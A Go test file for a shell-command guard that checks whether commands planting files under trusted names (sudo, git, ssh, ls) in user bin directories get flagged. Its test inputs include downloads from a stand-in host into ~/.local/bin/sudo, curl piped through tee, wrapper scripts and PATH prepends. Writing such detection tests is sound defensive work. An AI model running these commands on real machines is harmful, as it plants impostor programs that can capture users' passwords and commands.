package rules_test

import (
	"testing"

	"github.com/hguard/hguard"
	"github.com/hguard/hguard/dsl"
)

// TestShadowingSpellings: a file put in a bin directory early on PATH under
// the name of a program every system has (sudo, git, ssh, ls) is asked
// however the line spells the file (a directory destination, -t, wget -P,
// curl -O --output-dir, a cd first, aria2c -d, scp, a redirect or tee, an
// archive's named member, a rename in the directory, another bin directory,
// a directory the line puts on PATH, a download earlier on the line), and
// whatever brings it; a third-party tool a person installs by hand as its
// vendor says stays allowed (shadow48, 2026-12-05: every row marked was
// allowed for a person).
func TestShadowingSpellings(t *testing.T) {
	checkHoles(t, []holeCase{
		// directory destinations
		{"cp /tmp/sudo ~/.local/bin/", dsl.Ask, dsl.Ask},                     // was allowed
		{"cp -t ~/.local/bin /tmp/sudo", dsl.Ask, dsl.Ask},                   // was allowed
		{"install -Dm755 /dev/shm/sudo -t ~/.local/bin/", dsl.Ask, dsl.Ask},  // was allowed
		{"mv /tmp/git ~/.local/bin", dsl.Ask, dsl.Ask},                       // was allowed
		{"ln -s /tmp/x/sudo ~/bin/", dsl.Ask, dsl.Ask},                       // was allowed
		{"cp /tmp/sudo /tmp/git ~/.local/bin", dsl.Ask, dsl.Ask},             // was allowed
		{"rsync -av /tmp/sudo ~/.local/bin/", dsl.Ask, dsl.Ask},              // was allowed
		{"cd ~/.local/bin && cp /tmp/sudo .", dsl.Ask, dsl.Ask},              // was allowed
		{"install -Dm755 /dev/shm/x -t ~/.local/bin/", dsl.Allow, dsl.Allow}, // x shadows nothing
		{"mv /tmp/linux-amd64/helm ~/.local/bin/", dsl.Allow, dsl.Ask},
		{"cp /tmp/nvim ~/.local/bin/", dsl.Allow, dsl.Ask},
		{"install -Dm755 /tmp/k9s -t ~/.local/bin/", dsl.Allow, dsl.Allow},
		{"mv /tmp/kubectl ~/.local/bin", dsl.Allow, dsl.Ask},
		{"cp target/release/rg ~/.local/bin/", dsl.Allow, dsl.Ask},
		{"cp build/app ~/.local/bin/", dsl.Allow, dsl.Allow},
		// downloads keeping the remote name
		{"wget -P ~/.local/bin https://x.example/sudo", dsl.Ask, dsl.Ask},                     // was allowed
		{"wget --directory-prefix=~/.local/bin https://x.example/sudo", dsl.Ask, dsl.Ask},     // was allowed
		{"curl -O --output-dir ~/.local/bin https://x.example/sudo", dsl.Ask, dsl.Ask},        // was allowed
		{"cd ~/.local/bin && curl -O https://x.example/sudo", dsl.Ask, dsl.Ask},               // was allowed
		{"cd ~/.local/bin && wget https://x.example/sudo", dsl.Ask, dsl.Ask},                  // was allowed
		{"aria2c -d ~/.local/bin -o sudo https://x.example/y", dsl.Ask, dsl.Ask},              // was allowed
		{"scp host:x ~/.local/bin/sudo", dsl.Ask, dsl.Ask},                                    // was allowed
		{"scp -P 2222 host:bin/git ~/.local/bin/", dsl.Ask, dsl.Ask},                          // was allowed
		{"curl -o ~/.local/bin/git https://x.example/git", dsl.Ask, dsl.Ask},                  // was allowed
		{"curl -Lo ~/.local/bin/sudo https://x.example/r/sudo-linux-amd64", dsl.Ask, dsl.Ask}, // was allowed
		{"wget -P ~/.local/bin https://github.com/mikefarah/yq/releases/download/v4.44.1/yq_linux_amd64", dsl.Allow, dsl.Allow},
		{"curl -O --output-dir ~/.local/bin https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl", dsl.Allow, dsl.Ask},
		{"cd ~/.local/bin && curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl", dsl.Allow, dsl.Ask},
		{"curl -Lo ~/.local/bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64", dsl.Allow, dsl.Ask},
		{"cd /tmp && curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && install -m 0755 kubectl ~/.local/bin/kubectl", dsl.Allow, dsl.Ask},
		{"scp host:bin/tool ~/.local/bin/tool", dsl.Allow, dsl.Allow},
		// writes by content
		{"tee ~/.local/bin/ssh < /tmp/x", dsl.Ask, dsl.Ask},                                   // was allowed
		{"cat /tmp/x > ~/.local/bin/sudo", dsl.Ask, dsl.Ask},                                  // was allowed
		{`printf '#!/bin/sh\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git`, dsl.Ask, dsl.Ask}, // was allowed
		{"cat > ~/bin/ls <<< x", dsl.Ask, dsl.Ask},                                            // was allowed
		{"sed -n p /tmp/x > ~/.local/bin/sudo", dsl.Ask, dsl.Ask},                             // was allowed
		{"curl -fsSL https://x.example/y | tee ~/.local/bin/sudo", dsl.Ask, dsl.Ask},          // was allowed
		{`printf '#!/bin/sh\nexec docker compose "$@"\n' > ~/.local/bin/docker-compose`, dsl.Allow, dsl.Allow},
		{"cat > ~/.local/bin/mytool <<< x", dsl.Allow, dsl.Allow},
		{"echo '#!/bin/sh' > ~/bin/open", dsl.Allow, dsl.Ask},
		// archives: a member the line names; unnamed members are not known
		{"tar xzf /tmp/x.tgz -C ~/.local/bin sudo", dsl.Ask, dsl.Block},                           // was allowed
		{"tar -xzf /tmp/x.tgz -C ~/.local/bin --strip-components=1 bin/sudo", dsl.Ask, dsl.Block}, // was allowed
		{"unzip /tmp/x.zip sudo -d ~/.local/bin", dsl.Ask, dsl.Block},                             // was allowed
		{"tar xzf /tmp/k9s_Linux_amd64.tar.gz -C ~/.local/bin k9s", dsl.Allow, dsl.Block},
		{"tar -xzf /tmp/x.tgz -C ~/.local/bin bin/sudo", dsl.Allow, dsl.Block}, // lands in ~/.local/bin/bin
		{"unzip /tmp/x.zip -d ~/.local/bin", dsl.Allow, dsl.Block},
		{"cd ~/.local/bin && tar xzf /tmp/x.tgz", dsl.Allow, dsl.Block},
		// renames and links inside the bin directory
		{"mv ~/.local/bin/x ~/.local/bin/sudo", dsl.Ask, dsl.Ask},    // was allowed
		{"ln -sf ~/.local/bin/x ~/.local/bin/git", dsl.Ask, dsl.Ask}, // was allowed
		{"cd ~/.local/bin && mv x sudo", dsl.Ask, dsl.Ask},           // was allowed
		{"mv ~/.local/bin/kubectl-1.30 ~/.local/bin/kubectl", dsl.Allow, dsl.Ask},
		{"ln -sf ~/.local/bin/nvim ~/.local/bin/vim", dsl.Allow, dsl.Ask},
		{"ln -sf /usr/bin/python3 ~/.local/bin/python", dsl.Allow, dsl.Ask},
		{"ln -sf /usr/local/bin/python3 ~/bin/python", dsl.Allow, dsl.Ask},
		{"ln -sf $(which python3) ~/.local/bin/python", dsl.Allow, dsl.Ask},
		{"ln -sf /opt/homebrew/bin/gsed ~/bin/sed", dsl.Allow, dsl.Ask},
		{`ln -sf "$(which gtar)" ~/bin/tar`, dsl.Allow, dsl.Ask}, // Homebrew's GNU tar
		{"ln -sf $(brew --prefix)/bin/gtar ~/bin/tar", dsl.Allow, dsl.Ask},
		{"ln -sf $(which x) ~/bin/tar", dsl.Ask, dsl.Ask},
		{"cd ~/bin && ln -sf /usr/bin/batcat cat", dsl.Allow, dsl.Ask},
		{"cd ~/.local/bin && ln -s python3.12 python3", dsl.Allow, dsl.Ask},
		{"ln -s /opt/homebrew/opt/coreutils/libexec/gnubin/ls ~/bin/ls", dsl.Allow, dsl.Ask},
		{"wget -O ~/bin/yt-dlp https://github.com/yt-dlp/yt-dlp/releases/latest/download/yt-dlp", dsl.Allow, dsl.Ask},
		{"ln -s ~/.local/bin/fdfind ~/.local/bin/fd", dsl.Allow, dsl.Allow},
		{"cp ~/dotfiles/bin/git ~/.local/bin/git", dsl.Allow, dsl.Ask}, // one's own, under its name
		// other bin directories, and one the line puts on PATH
		{"cp /tmp/x ~/.bin/git", dsl.Ask, dsl.Ask}, // was allowed
		{"cp /tmp/x ~/.cargo/bin/ls", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/go/bin/ssh", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.npm-global/bin/sudo", dsl.Ask, dsl.Ask},
		{"export PATH=~/x:$PATH && cp /tmp/y ~/x/sudo", dsl.Ask, dsl.Ask},                // was allowed
		{"export PATH=~/x:$PATH; curl -o ~/x/git https://x.example/y", dsl.Ask, dsl.Ask}, // was allowed
		{"export PATH=$HOME/tools/bin:$PATH && cp build/tool ~/tools/bin/tool", dsl.Allow, dsl.Allow},
		{"cp /tmp/x ~/x/sudo", dsl.Allow, dsl.Allow},
		// two steps: a download earlier on the line, then the copy
		{"curl -o sudo https://x.example/y && mv sudo ~/.local/bin/", dsl.Ask, dsl.Ask},           // was allowed
		{"cd /tmp && wget https://x.example/y -O git && cp git ~/.local/bin/", dsl.Ask, dsl.Ask},  // was allowed
		{"curl -L https://x.example/y -o git && chmod +x git && mv git ~/bin/", dsl.Ask, dsl.Ask}, // was allowed
		{"make && cp sudo ~/.local/bin/", dsl.Allow, dsl.Ask},
		{"mv ~/Downloads/sudo ~/.local/bin/", dsl.Ask, dsl.Ask}, // was allowed: a browser's download
		{"mv ~/Downloads/x ~/.local/bin/ssh", dsl.Ask, dsl.Ask}, // was allowed
		{"mv ~/Downloads/kubectl ~/.local/bin/", dsl.Allow, dsl.Ask},
		{"cp ./sudo ~/.local/bin/sudo", dsl.Allow, dsl.Ask}, // one's own build under its name
		// a whole directory as or into a bin directory: no name known; an
		// agent's is asked (it may become the bin directory); a repository
		// cloned as one is someone's files on PATH (sec53)
		{"git clone https://x.example/y ~/bin", dsl.Ask, dsl.Ask},
		{"git clone https://x.example/y ~/src/y", dsl.Allow, dsl.Allow},
		{"cp -r /tmp/d ~/src/", dsl.Allow, dsl.Allow},
		{"cp -r /tmp/evilbin ~/.local/bin", dsl.Allow, dsl.Ask},
		{"rsync -a /tmp/d/ ~/.local/bin/", dsl.Allow, dsl.Block},
		// everyday neighbours
		{"mv /tmp/linux-amd64/helm ~/.local/bin/helm", dsl.Allow, dsl.Ask},
		{"cp /tmp/nvim ~/.local/bin/nvim", dsl.Allow, dsl.Ask},
		{"install -m 0755 /tmp/k9s ~/.local/bin/k9s", dsl.Allow, dsl.Allow},
		{"ln -s ~/src/tool/bin/tool ~/.local/bin/tool", dsl.Allow, dsl.Allow},
		{"pipx install x", dsl.Allow, dsl.Allow},
		{"cargo install ripgrep", dsl.Allow, dsl.Allow},
		{"chmod +x ~/.local/bin/kubectl", dsl.Allow, dsl.Allow},
		{"cat ~/.local/bin/git", dsl.Allow, dsl.Allow},
		{"ls ~/.local/bin", dsl.Allow, dsl.Allow},
	})
}

// TestShadowingSessionPath: a directory an earlier line of the session put
// first on PATH is a bin directory for the lines after it (shadow48,
// 2026-12-05: cp /tmp/y ~/x/sudo was allowed after export PATH=~/x:$PATH
// on an earlier line).
func TestShadowingSessionPath(t *testing.T) {
	g, err := hguard.New(hguard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		cmd  string
		path []string
		want dsl.Level
	}{
		{"cp /tmp/y ~/x/sudo", []string{"~/x"}, dsl.Ask},
		{"curl -o ~/x/git https://x.example/y", []string{"~/x"}, dsl.Ask},
		{"cp /tmp/y ~/x/sudo", nil, dsl.Allow},
		{"cp build/tool ~/x/tool", []string{"~/x"}, dsl.Allow},
		{"cp /tmp/y ~/x/kubectl", []string{"~/x"}, dsl.Ask},
		{"cp /tmp/kubectl ~/x/", []string{"~/x"}, dsl.Allow},
	} {
		v := g.Check(hguard.Request{Command: tt.cmd, Cwd: "/home/u/proj", Shell: "bash", Path: tt.path})
		if v.Level != tt.want {
			t.Errorf("%q after PATH %v: %s, want %s (%s)", tt.cmd, tt.path, v.Level, tt.want, v.Reasons())
		}
	}
}
